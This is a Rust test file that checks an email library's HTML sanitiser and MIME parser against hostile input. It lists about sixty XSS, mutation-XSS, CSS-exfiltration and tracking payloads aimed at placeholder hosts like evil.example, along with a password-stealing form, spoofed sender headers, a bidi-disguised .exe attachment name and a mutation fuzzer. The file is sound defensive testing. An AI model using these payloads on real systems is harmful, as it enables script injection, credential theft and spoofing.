//! Hostile input: XSS and tracking vectors through the sanitiser, spoofing headers and
//! disguised file names through the parser. The sanitiser's output is re-tokenised
//! with html5ever and checked strictly: only allowlisted elements, no event handlers,
//! no URL that could run script or load from the network.

use std::cell::RefCell;

use heron_mime::{SanitizeContext, ViewOptions, parse, sanitize_html};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};

/// (name, HTML, how many remote items must be reported blocked at least)
const VECTORS: &[(&str, &str, usize)] = &[
    ("script lower", "<script>alert(1)</script>x", 0),
    (
        "script upper",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        0,
    ),
    ("script mixed", "<ScRiPt>alert(1)</sCrIpT>", 0),
    (
        "script split",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        0,
    ),
    ("script in attr-less", "<<script>alert(1)//<</script>", 0),
    ("img onerror", "<img src=x onerror=alert(1)>", 0),
    ("body onload", "<body onload=alert(1)>hi</body>", 0),
    (
        "svg onload",
        "<svg onload=alert(1)><circle r=1></circle></svg>",
        0,
    ),
    (
        "details ontoggle",
        "<details open ontoggle=alert(1)>x</details>",
        0,
    ),
    (
        "a onmouseover",
        "<a href=https://ok.example onmouseover=alert(1)>x</a>",
        0,
    ),
    ("js href", "<a href=\"javascript:alert(1)\">x</a>", 0),
    (
        "js href entities",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        0,
    ),
    (
        "js href hex entities",
        "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
        0,
    ),
    (
        "js href whitespace",
        "<a href=\" \tjavascript:alert(1)\">x</a>",
        0,
    ),
    (
        "js href newline",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        0,
    ),
    ("js href tab", "<a href=\"java\tscript:alert(1)\">x</a>", 0),
    ("js href case", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", 0),
    ("vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>", 0),
    (
        "data html link",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        0,
    ),
    (
        "data svg img",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        0,
    ),
    (
        "mxss svg style",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        0,
    ),
    (
        "mxss math",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        0,
    ),
    (
        "mxss noscript",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        0,
    ),
    (
        "mxss template",
        "<template><img src=x onerror=alert(1)></template>",
        0,
    ),
    (
        "mxss textarea",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        0,
    ),
    (
        "mxss style",
        "<style><img src=x onerror=alert(1)></style>",
        0,
    ),
    (
        "mxss title",
        "<title><img src=x onerror=alert(1)></title>",
        0,
    ),
    ("mxss xmp", "<xmp><img src=x onerror=alert(1)></xmp>", 0),
    ("mxss comment", "<!--><img src=x onerror=alert(1)>-->", 0),
    (
        "mxss cdata",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        0,
    ),
    (
        "css exfiltration",
        "<style>input[value^=a]{background:url(https://evil.example/a)}</style><p>x</p>",
        0,
    ),
    (
        "css import",
        "<style>@import url(https://evil.example/x.css);</style>",
        0,
    ),
    (
        "css font-face",
        "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>",
        0,
    ),
    (
        "inline css url",
        "<div style=\"background-image:url(https://t.example/px.gif)\">x</div>",
        1,
    ),
    (
        "inline css escaped url",
        "<div style=\"background:\\75\\72\\6C(https://t.example/px.gif)\">x</div>",
        0,
    ),
    (
        "inline css expression",
        "<div style=\"width:expression(alert(1))\">x</div>",
        0,
    ),
    (
        "inline css behavior",
        "<div style=\"behavior:url(x.htc);-moz-binding:url(https://e.example/x.xml#x)\">x</div>",
        0,
    ),
    (
        "inline css fixed overlay",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fake login</div>",
        0,
    ),
    (
        "tracking pixel",
        "<img src=\"https://t.example/open?id=1\" width=1 height=1>",
        1,
    ),
    ("protocol relative", "<img src=\"//t.example/open\">", 0),
    (
        "srcset",
        "<img srcset=\"https://t.example/a.png 1x, https://t.example/b.png 2x\">",
        2,
    ),
    (
        "picture source",
        "<picture><source srcset=\"https://t.example/a.webp\"><img src=\"https://t.example/a.png\"></picture>",
        1,
    ),
    (
        "video poster",
        "<video poster=\"https://t.example/p.jpg\"><source src=\"https://t.example/v.mp4\"></video>",
        0,
    ),
    (
        "audio",
        "<audio src=\"https://t.example/a.mp3\" autoplay></audio>",
        0,
    ),
    (
        "table background",
        "<table background=\"https://t.example/bg.png\"><tr><td>x</td></tr></table>",
        1,
    ),
    (
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        0,
    ),
    (
        "base href",
        "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
        0,
    ),
    (
        "link stylesheet",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        0,
    ),
    (
        "form",
        "<form action=\"https://evil.example/steal\" method=post><input name=pw type=password><button formaction=\"https://evil.example/\">Go</button></form>",
        0,
    ),
    (
        "iframe",
        "<iframe src=\"https://evil.example/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        0,
    ),
    (
        "object embed",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        0,
    ),
    (
        "frameset",
        "<frameset><frame src=\"https://evil.example/\"></frameset>",
        0,
    ),
    (
        "file link",
        "<a href=\"file:///C:/Windows/System32/calc.exe\">x</a>",
        0,
    ),
    (
        "smb link",
        "<a href=\"smb://evil.example/share/x.exe\">x</a>",
        0,
    ),
    (
        "unc link",
        "<a href=\"\\\\evil.example\\share\\x.exe\">x</a><img src=\"\\\\evil.example\\share\\p.png\">",
        0,
    ),
    (
        "ms-settings link",
        "<a href=\"ms-msdt:/id PCWDiagnostic\">x</a><a href=\"search-ms:query=x\">y</a>",
        0,
    ),
    (
        "foreign heron-cid",
        "<img src=\"heron-cid://another-message/secret\">",
        0,
    ),
    ("bidi text", "<p>\u{202E}gnp.exe</p>", 0),
    (
        "attribute breakout",
        "<img alt='\"><script>alert(1)</script>' src=\"https://t.example/x\">",
        1,
    ),
];

/// Elements the mail view may contain. Deliberately a copy, not the sanitiser's own list:
/// a test that read the implementation's allowlist would pass whatever that list said.
const ALLOWED: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "address",
    "b",
    "bdi",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "article",
    "aside",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
    "nav",
];

struct Collect(RefCell<Vec<Token>>);

impl TokenSink for Collect {
    type Handle = ();
    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        self.0.borrow_mut().push(token);
        TokenSinkResult::Continue
    }
}

fn tokens(html: &str) -> Vec<Token> {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let tok = Tokenizer::new(Collect(RefCell::new(Vec::new())), TokenizerOpts::default());
    let _ = tok.feed(&input);
    tok.end();
    tok.sink.0.take()
}

/// Panics with the reason if `html` could run script or load anything.
fn assert_inert(name: &str, html: &str) {
    let lower = html.to_ascii_lowercase();
    for needle in [
        "<script",
        "<style",
        "<svg",
        "<math",
        "<iframe",
        "<object",
        "<embed",
        "<base",
        "<meta",
        "<link",
        "<form",
        "<input",
        "<button",
        "<video",
        "<audio",
        "<source",
        "<template",
        "<noscript",
        "<textarea",
    ] {
        assert!(
            !lower.contains(needle),
            "{name}: output contains {needle}: {html}"
        );
    }
    for token in tokens(html) {
        let Token::TagToken(tag) = token else {
            continue;
        };
        if tag.kind != TagKind::StartTag {
            continue;
        }
        assert!(
            ALLOWED.contains(&&*tag.name),
            "{name}: element <{}> in {html}",
            tag.name
        );
        for attr in &tag.attrs {
            let key = attr.name.local.to_ascii_lowercase();
            let value = attr.value.to_ascii_lowercase();
            let value = value.trim();
            assert!(!key.starts_with("on"), "{name}: handler {key} in {html}");
            assert!(
                !matches!(
                    key.as_str(),
                    "srcset"
                        | "poster"
                        | "action"
                        | "formaction"
                        | "srcdoc"
                        | "data"
                        | "http-equiv"
                ),
                "{name}: {key} in {html}"
            );
            match key.as_str() {
                "href" => assert!(
                    value.starts_with("https://")
                        || value.starts_with("http://")
                        || value.starts_with("mailto:"),
                    "{name}: href {value} in {html}"
                ),
                "src" | "background" => assert!(
                    value.starts_with("heron-cid://test-key/")
                        || [
                            "data:image/png",
                            "data:image/gif",
                            "data:image/jpeg",
                            "data:image/webp"
                        ]
                        .iter()
                        .any(|p| value.starts_with(p)),
                    "{name}: {key}={value} in {html}"
                ),
                "style" => {
                    for bad in [
                        "url(",
                        "expression",
                        "@import",
                        "behavior",
                        "binding",
                        "javascript",
                        "\\",
                        "fixed",
                    ] {
                        assert!(
                            !value.contains(bad) || value.contains("url(\"heron-cid://test-key/"),
                            "{name}: style with {bad} in {html}"
                        );
                    }
                }
                _ => {}
            }
        }
    }
}

fn ctx() -> SanitizeContext {
    SanitizeContext {
        message_key: "test-key".to_owned(),
        max_links_checked: 0,
    }
}

#[test]
fn hostile_html_comes_out_inert_and_remote_items_are_counted() {
    let mut cases = 0;
    for (name, html, min_remote) in VECTORS {
        let out = sanitize_html(html, &ctx());
        assert_inert(name, &out.html);
        assert!(
            out.remote_items_blocked >= *min_remote,
            "{name}: {} remote items counted, expected at least {min_remote}: {}",
            out.remote_items_blocked,
            out.html
        );
        let again = sanitize_html(&out.html, &ctx());
        assert_eq!(again, out, "{name}: sanitising twice changed the result");
        cases += 1;
    }
    assert!(cases > 50);
}

#[test]
fn hostile_html_inside_a_message_is_inert() {
    let all: String = VECTORS
        .iter()
        .map(|(_, h, _)| *h)
        .collect::<Vec<_>>()
        .join("\n");
    let raw = format!(
        "From: a@example.com\nSubject: all vectors\nContent-Type: text/html; charset=utf-8\n\n{all}"
    );
    let opts = ViewOptions {
        message_key: "test-key".to_owned(),
        ..ViewOptions::default()
    };
    let view = parse(raw.as_bytes(), &opts);
    assert_inert("all vectors", view.html_body.as_deref().unwrap());
    assert!(view.remote_items_blocked >= 7);
}

fn codes_of(raw: &str) -> Vec<&'static str> {
    parse(raw.as_bytes(), &ViewOptions::default())
        .security_notes
        .iter()
        .map(|n| n.code())
        .collect()
}

#[test]
fn mailsploit_headers_are_flagged() {
    let nul = "From: =?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?==?utf-8?Q?=00?==?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?=@mailsploit.example\n\nx";
    let codes = codes_of(nul);
    assert!(
        codes.contains(&"encoded_word_hides_address") || codes.contains(&"control_chars_in_sender"),
        "{codes:?}"
    );

    let newline = "From: =?utf-8?q?boss=40corp.example=0A=0D?= <x@evil.example>\n\nx";
    let codes = codes_of(newline);
    assert!(codes.contains(&"encoded_word_hides_address"), "{codes:?}");
    assert!(codes.contains(&"control_chars_in_sender"), "{codes:?}");

    let name_addr = "From: \"security@bank.example\" <x@evil.example>\n\nx";
    assert!(codes_of(name_addr).contains(&"display_name_contains_other_address"));
}

#[test]
fn bidi_file_names_are_flagged_and_dangerous() {
    let raw = "From: a@example.com\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n--b\nContent-Type: application/pdf\nContent-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe\n\nMZ\n--b--\n";
    let view = parse(raw.as_bytes(), &ViewOptions::default());
    let att = &view.attachments[0];
    assert!(att.dangerous);
    assert_eq!(att.original_name, "invoice<U+202E>fdp.exe");
    assert_eq!(att.file_name, "invoicefdp.exe");
    let codes: Vec<_> = att.warnings.iter().map(|n| n.code()).collect();
    assert_eq!(codes, ["invisible_or_bidi_chars", "dangerous_attachment"]);
}

#[test]
fn deeply_nested_and_huge_inputs_do_not_panic() {
    let deep_html = "<div>".repeat(50_000) + "x";
    let out = sanitize_html(&deep_html, &ctx());
    assert_inert("deep html", &out.html);

    let mut raw =
        String::from("From: a@example.com\nContent-Type: multipart/mixed; boundary=b0\n\n");
    for i in 0..2_000 {
        raw.push_str(&format!(
            "--b{i}\nContent-Type: multipart/mixed; boundary=b{}\n\n",
            i + 1
        ));
    }
    let _ = parse(raw.as_bytes(), &ViewOptions::default());

    let mut msg = String::from("x\n");
    for i in 0..200 {
        msg = format!("From: l{i}@example.com\nContent-Type: message/rfc822\n\n{msg}");
    }
    let view = parse(msg.as_bytes(), &ViewOptions::default());
    // The note sits in the deepest view that was still shown.
    fn has_limit(v: &heron_mime::MessageView) -> bool {
        v.security_notes
            .iter()
            .any(|n| n.code() == "limit_exceeded")
            || v.nested_messages.iter().any(|n| has_limit(&n.view))
    }
    assert!(has_limit(&view));
}

/// Any caught panic shows up as a "(internal error)" note somewhere in the tree.
fn caught_panic(view: &heron_mime::MessageView) -> bool {
    view.security_notes.iter().any(|n| matches!(n, heron_mime::SecurityNote::PartNotDisplayed { reason, .. } if reason.contains("internal error")))
        || view.nested_messages.iter().any(|n| caught_panic(&n.view))
}

/// mail-parser 0.11.9 trips a `debug_assert!` ("Invalid part ID, could not find
/// multipart") on an empty message/rfc822 inside a message/rfc822 (found by the
/// mutation test below). In debug builds that is a panic: it must stay contained, and
/// the headers plus the raw source must still be shown.
#[test]
fn mail_parser_panic_on_empty_nested_message_is_contained() {
    let raw = "Content-Type: multipart/mixed; boundary=\"lvl2\"\n\n--lvl2\nContent-Type: message/rfc822\n\nContent-Type: message/rfc822\n\n\n--lvl2--\n";
    let view = parse(raw.as_bytes(), &ViewOptions::default());
    assert!(!caught_panic(&view));
    if cfg!(debug_assertions) {
        assert!(view.raw_source.is_some());
        assert!(
            view.security_notes
                .iter()
                .any(|n| n.code() == "part_not_displayed")
        );
    }
}

/// A poor man's fuzzer until the cargo-fuzz target exists: truncations and seeded byte
/// mutations of every corpus message must parse without a panic in our code (a
/// contained mail-parser failure is allowed, see above), and their HTML must stay inert and stable under re-sanitising.
#[test]
fn mutated_corpus_never_panics() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus");
    let opts = ViewOptions {
        message_key: "test-key".to_owned(),
        ..ViewOptions::default()
    };
    let mut seed: u64 = 0x5EED_1234_ABCD_0001;
    let mut next = move || {
        // xorshift64*: deterministic, so a failure reproduces.
        seed ^= seed >> 12;
        seed ^= seed << 25;
        seed ^= seed >> 27;
        seed.wrapping_mul(0x2545_F491_4F6C_DD1D)
    };
    let mut cases = 0;
    let mut paths: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    paths.sort();
    for path in paths {
        if path.extension().is_none_or(|e| e != "eml") {
            continue;
        }
        let raw = std::fs::read(&path).unwrap();
        let mut variants: Vec<Vec<u8>> = (1..16)
            .map(|i| raw[..raw.len() * i / 16].to_vec())
            .collect();
        for _ in 0..40 {
            let mut m = raw.clone();
            for _ in 0..1 + next() % 8 {
                if m.is_empty() {
                    break;
                }
                let at = (next() % m.len() as u64) as usize;
                match next() % 4 {
                    0 => m[at] = (next() % 256) as u8,
                    1 => m.insert(at, b"\n-=?<>\"\0\r"[(next() % 9) as usize]),
                    2 => {
                        m.remove(at);
                    }
                    _ => {
                        let end = (at + 1 + (next() % 64) as usize).min(m.len());
                        let chunk = m[at..end].to_vec();
                        m.splice(at..at, chunk);
                    }
                }
            }
            variants.push(m);
        }
        for v in variants {
            let view = parse(&v, &opts);
            assert!(
                !caught_panic(&view),
                "{}: a mutation panicked",
                path.display()
            );
            if let Some(html) = &view.html_body {
                assert_inert("mutation", html);
                assert_eq!(
                    &sanitize_html(html, &ctx()).html,
                    html,
                    "{}: not idempotent",
                    path.display()
                );
            }
            cases += 1;
        }
    }
    assert!(cases > 1000, "{cases}");
}
